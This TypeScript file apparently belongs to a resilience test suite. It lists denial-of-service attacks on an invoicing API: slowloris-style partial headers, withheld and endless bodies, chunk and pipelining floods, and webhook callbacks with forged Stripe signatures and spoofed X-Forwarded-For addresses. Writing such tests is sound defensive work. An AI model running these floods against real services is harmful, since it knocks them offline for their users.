import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { setImmediate, setTimeout as sleep } from 'node:timers/promises';
import type { Attack, Attacker } from '../Attack';
import { occupation, rawFlood, rawSocket, repeat, requestHead, untilAborted, untilClosed } from '../attacker/tools';

const MIB = 1024 * 1024;
/** Of the announced body, never sent. */
const heldBack = 90;
const pipelined = 100_000;
const json = 'Content-Type: application/json';
const multipart = 'Content-Type: multipart/form-data; boundary=x';
const tinyChunks = (count: number): string => '1\r\n \r\n'.repeat(count);

const whole = { length: `Content-Length: ${MIB}`, bytes: () => Buffer.alloc(MIB, ' ') };
const inSmallChunks = {
  length: 'Transfer-Encoding: chunked',
  bytes: () => Buffer.from(`${`40\r\n${' '.repeat(64)}\r\n`.repeat(MIB / 64)}0\r\n\r\n`),
};

/** Requests with a body of 1 MiB, each from another network of IPv6. */
function fromManyNetworks(
  name: string,
  what: string,
  linesOf: () => readonly [string, ...string[]],
  { length, bytes } = whole,
): Attack {
  const body = bytes();
  return rawFlood({
    name,
    what: `${what}, each from another network of IPv6, 32 connections`,
    connections: 32,
    bytes: () => () => {
      const [line, ...headers] = linesOf();
      const network = randomBytes(4).toString('hex').match(/.{4}/g)?.join(':');
      const forwarded = `X-Forwarded-For: 2001:db8:${network}::1`;
      const head = [line, 'Host: attacker', forwarded, ...headers, length, '', ''].join('\r\n');
      return Buffer.concat([Buffer.from(head), body]);
    },
  });
}

const forged = (): readonly [string, ...string[]] => [
  ...(['POST /webhooks/gateway/stripe HTTP/1.1', json] as const),
  `Stripe-Signature: t=${Math.floor(Date.now() / 1_000)},v1=${'0'.repeat(64)}`,
];

/** 16 connections that send a head and then repeat `piece` without an end, as fast as the service reads. */
function endless(name: string, what: string, head: (attacker: Attacker) => string, piece: string): Attack {
  const pieces = Buffer.from(piece.repeat(10_000));
  return {
    name,
    what: `${what}, without an end and as fast as they are taken, 16 connections`,
    run: (attacker, signal) =>
      repeat(attacker, 16, signal, () => {
        const socket = rawSocket(attacker, head(attacker));
        const pour = (): void => {
          while (!socket.destroyed && socket.write(pieces));
        };
        socket.on('connect', pour).on('drain', pour);
        return untilClosed(socket, signal);
      }),
  };
}

/** A silent connection from an address of its own for each index. */
function silentFrom(attacker: Attacker, index: number): Socket {
  const { hostname, port } = new URL(attacker.baseUrl);
  const localAddress = `127.9.${(index >> 8) & 255}.${index & 255 || 1}`;
  const socket = connect({ port: Number(port), host: hostname, localAddress });
  socket.on('connect', () => attacker.count('connected'));
  socket.on('error', (error: NodeJS.ErrnoException) => attacker.count(error.code ?? error.message));
  return socket.resume();
}

/** Opens a connection, from another address than the victim's, that announces a body of 10 MB, which never comes. */
function announceBody(attacker: Attacker): Socket {
  const head = 'POST /healthz HTTP/1.1\r\nHost: attacker\r\nContent-Length: 10000000\r\n\r\n';
  return rawSocket(attacker, head, true, '127.9.9.9');
}

/** Abuse of connections. */
export const connections: readonly Attack[] = [
  occupation({
    name: 'never-read',
    what: '60 connections that ask for a list of 100 invoices of 1,000 items and never read',
    connections: 60,
    prepare: (ground) => ground.heavy(),
    open: (attacker) => rawSocket(attacker, requestHead(attacker, 'GET /api/invoices?limit=100'), false),
  }),
  occupation({
    name: 'slow-bodies',
    what: '400 connections that send 1 MiB less 90 bytes of a body and wait',
    connections: 400,
    open: (attacker) => {
      const socket = rawSocket(attacker, requestHead(attacker, 'POST /api/invoices', [json, `Content-Length: ${MIB}`]));
      return socket.on('connect', () => socket.write(Buffer.alloc(MIB - heldBack, ' ')));
    },
  }),
  occupation({
    name: 'idle-connections',
    what: '1,000 connections: half say nothing, half stop in the middle of their headers',
    connections: 1_000,
    open: (attacker, index) =>
      rawSocket(attacker, index % 2 === 0 ? '' : requestHead(attacker, 'GET /api/invoices').slice(0, -4)),
  }),
  {
    name: 'room-among-networks',
    what: '8,000 silent connections, each from an address of its own, and then some 3,000 new ones a second',
    run: async (attacker, signal) => {
      const sockets = new Set<Socket>();
      const open = (index: number): void => {
        const socket = silentFrom(attacker, index);
        sockets.add(socket);
        socket.once('close', () => sockets.delete(socket));
      };
      for (let index = 0; index < 7_990 && !signal.aborted; index++) {
        open(index);
        if (index % 50 === 49) await sleep(5);
      }
      await repeat(attacker, 32, signal, async (turn) => {
        open(8_000 + (turn % 50_000));
        await sleep(10);
      });
      sockets.forEach((socket) => socket.destroy());
    },
  },
  rawFlood({
    name: 'new-connections',
    what: 'requests without a key, a new connection each, 3,000 at the same time',
    connections: 3_000,
    bytes: () => Buffer.from('GET /nothing HTTP/1.1\r\nHost: attacker\r\nConnection: close\r\n\r\n'),
  }),
  {
    name: 'announced-bodies',
    what: 'heads without a key that announce a body of 10 MB, which never comes, 2,000 connections of another address',
    // Which shares one company's part with them.
    without: ['page'],
    run: (attacker, signal) => repeat(attacker, 2_000, signal, () => untilClosed(announceBody(attacker), signal)),
  },
  {
    name: 'keyless-churn',
    what: 'the same, but each connection is closed after 0.4 s and opened again',
    run: (attacker, signal) =>
      repeat(attacker, 2_000, signal, async () => {
        const socket = announceBody(attacker);
        socket.once('connect', () => setTimeout(() => socket.destroy(), 400));
        await Promise.all([untilClosed(socket, signal), sleep(400)]);
      }),
  },
  {
    name: 'bursts-of-requests',
    what: '1,000 connections that send a request without a key and with 8 KiB of headers at the same time, every 0.5 s',
    run: async (attacker, signal) => {
      const headers = Array.from({ length: 95 }, (_, index) => `X-${index}: ${'x'.repeat(70)}\r\n`);
      const bytes = Buffer.from(`GET /nothing HTTP/1.1\r\nHost: attacker\r\n${headers.join('')}\r\n`);
      const sockets = Array.from({ length: 1_000 }, () => rawSocket(attacker, bytes));
      const burst = setInterval(() => sockets.forEach((socket) => socket.write(bytes)), 500);
      await untilAborted(signal);
      clearInterval(burst);
      sockets.forEach((socket) => socket.destroy());
    },
  },
  rawFlood({
    name: 'multipart-headers',
    what: 'uploads whose part has a header of 256 KiB of quotes, 8 connections',
    connections: 8,
    bytes: (attacker) => {
      const part = Buffer.alloc(MIB / 4, '"');
      part.write('--x\r\nContent-Disposition: form-data; name="file"; filename=');
      const head = requestHead(attacker, 'POST /api/receipts', [multipart, `Content-Length: ${part.length}`]);
      return Buffer.concat([Buffer.from(head), part]);
    },
  }),
  {
    name: 'endless-uploads',
    what: 'uploads that are far too large, sent as fast as they are taken, 16 connections',
    run: (attacker, signal) => {
      const head = requestHead(attacker, 'POST /api/receipts', [multipart, `Content-Length: ${1e12}`]);
      const piece = Buffer.alloc(MIB / 4, ' ');
      return repeat(attacker, 16, signal, () => {
        const socket = rawSocket(attacker, head);
        const pour = (): void => {
          while (!socket.destroyed && socket.write(piece));
        };
        socket.on('connect', pour).on('drain', pour);
        return untilClosed(socket, signal);
      });
    },
  },
  rawFlood({
    name: 'pipelined-behind-long-poll',
    what: '100,000 requests of 30 bytes behind a long poll, 2 connections',
    connections: 2,
    bytes: (attacker) =>
      Buffer.from(
        requestHead(attacker, 'GET /api/events?wait=20&subject=invoice:999999999') +
          'GET /healthz HTTP/1.1\r\nHost:\r\n\r\n'.repeat(pipelined),
      ),
  }),
  rawFlood({
    name: 'pipelined-wrong-keys',
    what: '100,000 requests with a wrong key, 2 connections',
    connections: 2,
    bytes: () => Buffer.from('GET /api/jobs/1 HTTP/1.1\r\nHost:\r\nAuthorization: Bearer x\r\n\r\n'.repeat(pipelined)),
  }),
  {
    name: 'full-line',
    what: 'requests for an operation that does not exist, 7,000 connections: more than may wait',
    run: (attacker, signal) => {
      const request = requestHead(attacker, 'GET /api/nothing');
      return repeat(attacker, 7_000, signal, () => {
        const socket = rawSocket(attacker, request);
        socket.on('data', () => socket.write(request));
        return untilClosed(socket, signal);
      });
    },
  },
  {
    name: 'head-bytes',
    what: '2,000 connections that send a head without an end and without a key, byte by byte',
    run: async (attacker, signal) => {
      const open = (): Socket => rawSocket(attacker, 'GET /healthz HTTP/1.1\r\nHost: a\r\nX: ').setNoDelay();
      const sockets = Array.from({ length: 2_000 }, open);
      while (!signal.aborted) {
        for (const [index, socket] of sockets.entries()) {
          if (socket.destroyed) sockets[index] = open();
          else if (!socket.connecting && socket.writableLength < 64) socket.write('x');
          if (index % 500 === 499) await setImmediate();
        }
      }
      sockets.forEach((socket) => socket.destroy());
    },
  },
  endless('blank-lines', 'blank lines after a request', () => 'GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n', '\r\n'),
  endless(
    'endless-tiny-chunks',
    'creates of an invoice in chunks of a byte',
    (attacker) => requestHead(attacker, 'POST /api/invoices', [json, 'Transfer-Encoding: chunked']),
    tinyChunks(1),
  ),
  endless(
    'endless-chunk-size',
    'creates of an invoice, whose first chunk has a size of endless zeros',
    (attacker) => requestHead(attacker, 'POST /api/invoices', [json, 'Transfer-Encoding: chunked']),
    '0',
  ),
  rawFlood({
    name: 'tiny-chunks',
    what: 'creates of an invoice, 100,000 chunks of a byte, 16 connections',
    connections: 16,
    bytes: (attacker) => {
      const head = requestHead(attacker, 'POST /api/invoices', [json, 'Transfer-Encoding: chunked']);
      return Buffer.from(head + tinyChunks(100_000));
    },
  }),
  rawFlood({
    name: 'small-chunks',
    what: 'uploads of 10 MiB in chunks of 64 bytes, 16 connections',
    connections: 16,
    bytes: (attacker) => {
      const part = '--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-1.4\n'.padEnd(128);
      const chunks = `${part}${' '.repeat(10 * MIB)}`.replace(/[^]{64}/g, '40\r\n$&\r\n');
      return Buffer.from(
        requestHead(attacker, 'POST /api/receipts', [multipart, 'Transfer-Encoding: chunked']) + chunks,
      );
    },
  }),
  rawFlood({
    name: 'tiny-chunks-without-key',
    what: 'requests to a path that takes no body, 10,500 chunks of a byte, 16 connections',
    connections: 16,
    bytes: () =>
      Buffer.from(`POST /healthz HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n${tinyChunks(10_500)}`),
  }),
  rawFlood({
    name: 'forged-callbacks',
    what: 'callbacks of 64 KiB without the token of the gateway, a new connection each, 32 at the same time',
    connections: 32,
    bytes: () => {
      const body = ' '.repeat(64 * 1024);
      const lines = ['POST /webhooks/gateway/xendit HTTP/1.1', 'Host: attacker', json];
      return Buffer.from([...lines, `Content-Length: ${body.length}`, '', body].join('\r\n'));
    },
  }),
  fromManyNetworks('callbacks-of-networks', 'callbacks of 1 MiB with a forged signature', forged),
  fromManyNetworks(
    'small-chunks-callbacks',
    'callbacks of 1 MiB with a forged signature, in chunks of 64 bytes',
    forged,
    inSmallChunks,
  ),
  {
    ...fromManyNetworks('bodies-of-networks', 'bodies of 1 MiB without a key', () => [
      'POST /api/invoices HTTP/1.1',
      json,
    ]),
    // Which shares one company's part with them.
    without: ['page'],
  },
];
